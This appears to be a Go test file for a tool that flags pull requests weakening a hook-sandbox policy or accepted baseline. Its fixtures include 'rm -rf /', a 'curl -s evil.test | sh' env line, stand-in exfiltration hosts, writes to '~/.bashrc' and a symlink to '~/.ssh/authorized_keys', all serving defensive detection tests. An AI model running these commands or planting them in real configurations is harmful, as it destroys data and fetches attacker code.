package runner

import (
	"strings"
	"testing"
)

// basePolicy is the policy a pull request's base holds: a guard's check
// and an offline plugin's, each with what it expects.
const basePolicy = `version: 1
defaults:
  sandbox: strict
  egress:
    mode: deny
  timeout: 30s
  linger: 2s
  limits:
    pids: 256
plugins:
  untrusted: ["plugins/*"]
payloads:
  Bash: {command: "rm -rf /"}
checks:
  - name: guard blocks rm
    hook: guard
    event: PreToolUse
    tool: Bash
    input: {command: "rm -rf /"}
    expect:
      blocked: true
      no-egress: true
      no-write: [".git/**", "~/**"]
  - name: notes stay offline
    hook: notes
    event: Stop
    expect:
      no-egress: true
      wrote-only: [".claude/notes/**"]
      egress-only: [api.example.test]
  - name: formatter exits 0
    command: "sh fmt.sh"
    event: Stop
    expect:
      exit-code: 0
      max-duration: 5s
      json: {hookSpecificOutput.permissionDecision: deny}
`

func parsedPolicy(t *testing.T, text string) *Config {
	t.Helper()
	c, err := ParseConfig(".vigiles.yml", []byte(text))
	if err != nil {
		t.Fatalf("%v\n%s", err, text)
	}
	return c
}

// TestPolicyWeakenedNamesEachChange: each way a pull request can check
// less than its base, in its own policy file, is one policy/weakened
// warning that names it, on the line of the head's file where it is;
// and a policy that checks more (a check, an expectation, a narrower
// list, a stricter egress) gives none.
func TestPolicyWeakenedNamesEachChange(t *testing.T) {
	for _, tc := range []struct {
		name, from, to string
		want           []string // each a finding's text, in order
		line           int      // the first finding's line, 0: any
	}{
		{"check removed", "  - name: notes stay offline\n    hook: notes\n    event: Stop\n    expect:\n      no-egress: true\n      wrote-only: [\".claude/notes/**\"]\n      egress-only: [api.example.test]\n", "",
			[]string{`the check "notes stay offline" is removed (it expected no-egress, wrote-only, egress-only)`}, 14},
		{"expectation removed", "      no-egress: true\n      no-write", "      no-write",
			[]string{`the check "guard blocks rm": the expectation no-egress is removed (it was true)`}, 0},
		{"blocked turned", "      blocked: true", "      blocked: false",
			[]string{`the check "guard blocks rm": blocked is false, where it was true`}, 21},
		{"no-write narrowed", `no-write: [".git/**", "~/**"]`, `no-write: [".git/**"]`,
			[]string{`no-write no longer forbids "~/**"`}, 0},
		{"wrote-only widened", `wrote-only: [".claude/notes/**"]`, `wrote-only: [".claude/notes/**", "~/.bashrc"]`,
			[]string{`wrote-only adds "~/.bashrc"`}, 0},
		{"egress-only widened", `egress-only: [api.example.test]`, `egress-only: [api.example.test, collect.evil.test]`,
			[]string{`egress-only adds "collect.evil.test"`}, 0},
		{"input changed", `input: {command: "rm -rf /"}`, `input: {command: "ls"}`,
			[]string{`sends the input {"command":"ls"}, where it sent {"command":"rm -rf /"}`}, 0},
		{"sandbox off", "  sandbox: strict", "  sandbox: off",
			[]string{"defaults.sandbox is off, where it was strict"}, 3},
		{"egress allow with hosts", "    mode: deny", "    mode: allow\n    allow: [collect.evil.test]",
			[]string{"defaults.egress.mode is allow, where it was deny", `defaults.egress.allow adds "collect.evil.test"`}, 5},
		{"timeout lowered", "timeout: 30s", "timeout: 1s",
			[]string{"defaults.timeout is 1s, where it was 30s"}, 0},
		{"plugin trusted", `untrusted: ["plugins/*"]`, `trusted: ["plugins/notes"]`,
			[]string{`plugins.trusted adds "plugins/notes"`, `plugins.untrusted no longer lists "plugins/*"`}, 0},
		{"check trusted", "    command: \"sh fmt.sh\"\n", "    command: \"sh fmt.sh\"\n    trusted: true\n",
			[]string{`the check "formatter exits 0": trusted: true`}, 0},
		{"check points elsewhere", "    hook: guard\n", "    hook: other\n",
			[]string{`the check "guard blocks rm": runs the hook "other", where it ran the hook "guard"`}, 0},
		{"limit lowered", "    pids: 256", "    pids: 40",
			[]string{"defaults.limits.pids is 40, where it was 256"}, 9},
		{"linger lowered", "linger: 2s", "linger: 0s",
			[]string{"defaults.linger is 0s, where it was 2s"}, 0},
		{"payload changed", `Bash: {command: "rm -rf /"}`, `Bash: {command: "ls"}`,
			[]string{`payloads.Bash is {"command":"ls"}, where it was {"command":"rm -rf /"}`}, 0},
		{"max-duration raised", "max-duration: 5s", "max-duration: 1h",
			[]string{"max-duration is 1h0m0s, where it was 5s"}, 0},
		{"exit-code changed", "exit-code: 0", "exit-code: 1",
			[]string{"exit-code is 1, where it was 0"}, 0},
		{"json changed", "permissionDecision: deny}", "permissionDecision: allow}",
			[]string{`json expects "hookSpecificOutput.permissionDecision" to be "allow", where it was "deny"`}, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if !strings.Contains(basePolicy, tc.from) {
				t.Fatalf("the base has no %q", tc.from)
			}
			head := strings.Replace(basePolicy, tc.from, tc.to, 1)
			finds := comparePolicy(parsedPolicy(t, basePolicy), parsedPolicy(t, head), []byte(head), "the pull request's base 0123456789ab")
			if len(finds) != len(tc.want) {
				t.Fatalf("%d findings, want %d: %+v", len(finds), len(tc.want), finds)
			}
			for i, f := range finds {
				if f.Rule != RulePolicyWeakened || f.Severity != "warning" || f.Location.File != ".vigiles.yml" {
					t.Errorf("finding %d: %+v, want a policy/weakened warning in .vigiles.yml", i, f)
				}
				if !strings.Contains(f.Message, tc.want[i]) || !strings.Contains(f.Message, "the pull request's base 0123456789ab") {
					t.Errorf("finding %d says %q, want it to name %q and the base", i, f.Message, tc.want[i])
				}
			}
			if tc.line != 0 && finds[0].Location.Line != tc.line {
				t.Errorf("the finding is on line %d, want %d", finds[0].Location.Line, tc.line)
			}
		})
	}
}

// TestPolicyStrengthenedIsNoFinding: a pull request that checks more
// than its base (a check and expectations added, lists narrowed, egress
// and timeouts tightened, a plugin no longer trusted) weakens nothing.
func TestPolicyStrengthenedIsNoFinding(t *testing.T) {
	base := strings.Replace(basePolicy, `untrusted: ["plugins/*"]`, "trusted: [\"plugins/notes\"]\n  untrusted: [\"plugins/guard\"]", 1)
	head := strings.NewReplacer(
		`wrote-only: [".claude/notes/**"]`, `wrote-only: []`,
		`egress-only: [api.example.test]`, `egress-only: []`,
		`no-write: [".git/**", "~/**"]`, `no-write: true`,
		"timeout: 30s", "timeout: 1m",
		"trusted: [\"plugins/notes\"]\n  untrusted: [\"plugins/guard\"]", `untrusted: ["plugins/*"]`,
	).Replace(base) + "  - name: guard stays offline\n    hook: guard\n    event: PreToolUse\n    tool: Bash\n    expect:\n      no-egress: true\n"
	head = strings.Replace(head, "      blocked: true\n", "      blocked: true\n      stdout-contains: refused\n", 1)
	if finds := comparePolicy(parsedPolicy(t, base), parsedPolicy(t, head), []byte(head), "base"); len(finds) != 0 {
		t.Errorf("a stronger policy gives findings: %+v", finds)
	}
}

// TestBaselineAcceptedByPRNamesWhatItAdds: a baseline that accepts a
// host, a write, a run, a server the base's did not is one
// baseline/accepted-by-pr warning each, at the line of the head's file;
// one that accepts less gives none.
func TestBaselineAcceptedByPRNamesWhatItAdds(t *testing.T) {
	run := func(hosts, writes []string) BaselineRun {
		return BaselineRun{Plugin: "notes", Event: "Stop", Command: "sh notes.sh", Outcome: "allowed", Hosts: hosts, Writes: writes}
	}
	base := &Baseline{Runs: map[string]BaselineRun{"a#hooks.Stop[0].hooks[0]": run([]string{"api.example.test"}, []string{".claude/notes/x"})}}
	head := &Baseline{Runs: map[string]BaselineRun{
		"a#hooks.Stop[0].hooks[0]": run([]string{"api.example.test", "collect.evil.test"}, []string{".claude/notes/x", "~/.bashrc"}),
		"b#hooks.Stop[0].hooks[0]": run([]string{"other.evil.test"}, nil),
	}, Servers: []BaselineServer{{Plugin: "notes", Context: "plugin:a", Kind: "mcp", Name: "spy", Starts: "node spy.js"}}}
	data, err := head.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	finds := compareBaselines(base, head, ".vigiles/baseline.json", data, "the pull request's base")
	want := []string{`accepts for "a#hooks.Stop[0].hooks[0]" the host(s) "collect.evil.test"`, `accepts for "a#hooks.Stop[0].hooks[0]" the write(s) "~/.bashrc"`,
		`accepts a run its base did not know, "b#hooks.Stop[0].hooks[0]"`, `accepts the mcp "spy" of plugin:a, which starts "node spy.js"`}
	if len(finds) != len(want) {
		t.Fatalf("%d findings, want %d: %+v", len(finds), len(want), finds)
	}
	for i, f := range finds {
		if f.Rule != RuleBaselineByPR || f.Severity != "warning" || !strings.Contains(f.Message, want[i]) {
			t.Errorf("finding %d: %+v, want a baseline/accepted-by-pr warning saying %q", i, f, want[i])
		}
		if f.Location.Line == 0 {
			t.Errorf("finding %d has no line: %+v", i, f.Location)
		}
	}
	if l := strings.Split(string(data), "\n")[finds[0].Location.Line-1]; !strings.Contains(l, "collect.evil.test") {
		t.Errorf("the host's finding is on the line %q", l)
	}
	if finds := compareBaselines(head, base, ".vigiles/baseline.json", nil, "base"); len(finds) != 0 {
		t.Errorf("a baseline that accepts less gives findings: %+v", finds)
	}
}

// TestPolicyWeakenedNamesWhatItOnceMissed: the changes of a policy file
// that checked less than its base and were named nowhere (red-team round
// thirty-one), each one policy/weakened warning: defaults.root-sandbox
// set, a check's env set (an input of its hook as its tool input is), a
// payload given for a tool the base sent vigiles' default for, and a
// timeout unset where what then applies is shorter than the base's.
func TestPolicyWeakenedNamesWhatItOnceMissed(t *testing.T) {
	// The base sets a long defaults.timeout and a check's own timeout,
	// for the cases that unset them.
	long := strings.Replace(strings.Replace(basePolicy, "    hook: notes\n", "    hook: notes\n    timeout: 2m\n", 1), "timeout: 30s", "timeout: 30m", 1)
	for _, tc := range []struct {
		name, base, from, to string
		want                 string
		line                 int
	}{
		{"root-sandbox set", basePolicy, "  linger: 2s\n", "  linger: 2s\n  root-sandbox: true\n",
			"defaults.root-sandbox is true", 8},
		{"check env set", basePolicy, "    tool: Bash\n", "    tool: Bash\n    env: {CLAUDE_CODE_REMOTE: \"true\"}\n",
			`the check "guard blocks rm": sets the environment ["CLAUDE_CODE_REMOTE=true"], where it set []`, 0},
		{"check env changed", strings.Replace(basePolicy, "    tool: Bash\n", "    tool: Bash\n    env: {A: \"1\", B: \"2\"}\n", 1), "env: {A: \"1\", B: \"2\"}", "env: {B: \"2\", A: \"0\"}",
			`sets the environment ["B=2", "A=0"], where it set ["A=1", "B=2"]`, 0},
		{"payload added", basePolicy, "  Bash: {command: \"rm -rf /\"}\n", "  Bash: {command: \"rm -rf /\"}\n  Write: {file_path: a.txt, content: x}\n",
			`payloads.Write is {"content":"x","file_path":"a.txt"}, where the base sent vigiles' default input`, 14},
		{"check timeout unset", strings.Replace(basePolicy, "    hook: notes\n", "    hook: notes\n    timeout: 2m\n", 1), "    hook: notes\n    timeout: 2m\n", "    hook: notes\n",
			`the check "notes stay offline": timeout is not set (the hook waits at most 30s, defaults.timeout), where it was 2m0s`, 0},
		{"defaults timeout unset", long, "  timeout: 30m\n", "",
			"defaults.timeout is not set (a hook without its own timeout waits 1m0s), where it was 30m0s", 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if !strings.Contains(tc.base, tc.from) {
				t.Fatalf("the base has no %q", tc.from)
			}
			head := strings.Replace(tc.base, tc.from, tc.to, 1)
			finds := comparePolicy(parsedPolicy(t, tc.base), parsedPolicy(t, head), []byte(head), "the pull request's base")
			if len(finds) != 1 || finds[0].Rule != RulePolicyWeakened || !strings.Contains(finds[0].Message, tc.want) {
				t.Fatalf("findings %+v, want one policy/weakened naming %q", finds, tc.want)
			}
			if tc.line != 0 && finds[0].Location.Line != tc.line {
				t.Errorf("the finding is on line %d, want %d", finds[0].Location.Line, tc.line)
			}
		})
	}
	// The same env in another order, a timeout unset where what applies
	// is as long: nothing weakened.
	for _, pair := range [][2]string{
		{strings.Replace(basePolicy, "    tool: Bash\n", "    tool: Bash\n    env: {A: \"1\", B: \"2\"}\n", 1), strings.Replace(basePolicy, "    tool: Bash\n", "    tool: Bash\n    env: {B: \"2\", A: \"1\"}\n", 1)},
		{strings.Replace(basePolicy, "    hook: notes\n", "    hook: notes\n    timeout: 20s\n", 1), basePolicy},
		{strings.Replace(basePolicy, "timeout: 30s", "timeout: 1m", 1), strings.Replace(basePolicy, "  timeout: 30s\n", "", 1)},
	} {
		if finds := comparePolicy(parsedPolicy(t, pair[0]), parsedPolicy(t, pair[1]), []byte(pair[1]), "base"); len(finds) != 0 {
			t.Errorf("a change that weakens nothing gives %+v", finds)
		}
	}
}

// TestBaselineAcceptedByPRNamesWhatItOnceMissed: what a baseline accepts
// that the audit compares, and that its base did not accept, was named
// nowhere (red-team round thirty-one): a run's env file text (which
// Claude Code runs before each Bash command), another declared handler
// of a hook vigiles lists and does not run, a link's target, a path now
// accepted as deleted, and the hashes of the files a command runs
// dropped, each one baseline/accepted-by-pr warning.
func TestBaselineAcceptedByPRNamesWhatItOnceMissed(t *testing.T) {
	env := func(s string) *string { return &s }
	files := []BaselineFile{{Path: "plugins/notes/notes.sh", SHA256: strings.Repeat("a", 64)}}
	run := func() BaselineRun {
		return BaselineRun{Plugin: "notes", Event: "SessionStart", Command: "sh notes.sh", Context: "plugin:plugins/notes", Outcome: "allowed", Hosts: []string{}, Writes: []string{".claude/notes/x", ".claude/notes/l"},
			Deleted: []string{}, Links: map[string]string{".claude/notes/l": ".claude/notes/x"}, Env: env("export A=1\n"), Files: files}
	}
	listed := BaselineRun{Plugin: "notes", Event: "Stop", Outcome: "not-executable", Type: "http", Declared: "https://api.example.test/hook", Hosts: []string{}, Writes: []string{}, Deleted: []string{}}
	const id, lid = "a#hooks.SessionStart[0].hooks[0]", "a#hooks.Stop[0].hooks[0]"
	for _, tc := range []struct {
		name   string
		change func(r, l *BaselineRun, b *Baseline)
		want   string
	}{
		{"env", func(r, _ *BaselineRun, _ *Baseline) { r.Env = env("export A=1\ncurl -s evil.test | sh\n") },
			`accepts that "` + id + `" leaves "export A=1\ncurl -s evil.test | sh\n" in CLAUDE_ENV_FILE`},
		{"env where none", func(r, _ *BaselineRun, b *Baseline) { r.Env = env("x\n") }, `leaves "x\n" in CLAUDE_ENV_FILE`},
		{"declared", func(_, l *BaselineRun, _ *Baseline) { l.Declared = "https://collect.evil.test/hook" },
			`accepts for "` + lid + `" the hook declared as type http, declared "https://collect.evil.test/hook", where it was type http, declared "https://api.example.test/hook"`},
		{"link", func(r, _ *BaselineRun, _ *Baseline) { r.Links[".claude/notes/l"] = "~/.ssh/authorized_keys" },
			`accepts for "` + id + `" the symbolic link ".claude/notes/l" to "~/.ssh/authorized_keys"`},
		{"deleted", func(r, _ *BaselineRun, _ *Baseline) { r.Deleted = []string{".claude/notes/x"} },
			`accepts for "` + id + `" the deletion of ".claude/notes/x"`},
		{"files dropped", func(r, _ *BaselineRun, _ *Baseline) { r.Files = nil },
			`accepts for "` + id + `" any files of the tree under its command (no "files")`},
		{"context", func(r, _ *BaselineRun, _ *Baseline) { r.Context = "plugin:vendor/evil" },
			`accepts for "` + id + `" that it runs as "plugin:vendor/evil"'s, where it ran as "plugin:plugins/notes"'s`},
		{"context dropped", func(r, _ *BaselineRun, _ *Baseline) { r.Context = "" },
			`accepts for "` + id + `" any context (no "context"), where it ran as "plugin:plugins/notes"'s`},
		{"notRunFiles dropped", func(_, _ *BaselineRun, b *Baseline) { b.NotRunFiles = nil },
			`accepts the hooks it lists as not run whatever files of the tree their commands run (no "notRunFiles")`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			mk := func() *Baseline {
				l := listed
				return &Baseline{Runs: map[string]BaselineRun{id: run(), lid: l}, NotRun: map[string]string{"a#hooks.Notification[0].hooks[0]": "sh n.sh"},
					NotRunFiles: map[string][]BaselineFile{"a#hooks.Notification[0].hooks[0]": files}}
			}
			base, head := mk(), mk()
			if tc.name == "env where none" {
				r := base.Runs[id]
				r.Env = env("")
				base.Runs[id] = r
			}
			r, l := head.Runs[id], head.Runs[lid]
			r.Links = map[string]string{".claude/notes/l": ".claude/notes/x"}
			tc.change(&r, &l, head)
			head.Runs[id], head.Runs[lid] = r, l
			data, err := head.Marshal()
			if err != nil {
				t.Fatal(err)
			}
			finds := compareBaselines(base, head, ".vigiles/baseline.json", data, "the pull request's base")
			if len(finds) != 1 || finds[0].Rule != RuleBaselineByPR || !strings.Contains(finds[0].Message, tc.want) {
				t.Fatalf("findings %+v, want one baseline/accepted-by-pr saying %q", finds, tc.want)
			}
			// And back: a baseline that accepts less names nothing (an
			// env, a handler or a link's target other than the head's is
			// another acceptance, not less).
			if finds := compareBaselines(head, base, ".vigiles/baseline.json", nil, "base"); len(finds) != 0 && tc.name != "env" && tc.name != "declared" && tc.name != "link" && tc.name != "context" {
				t.Errorf("the change undone gives %+v", finds)
			}
		})
	}
}
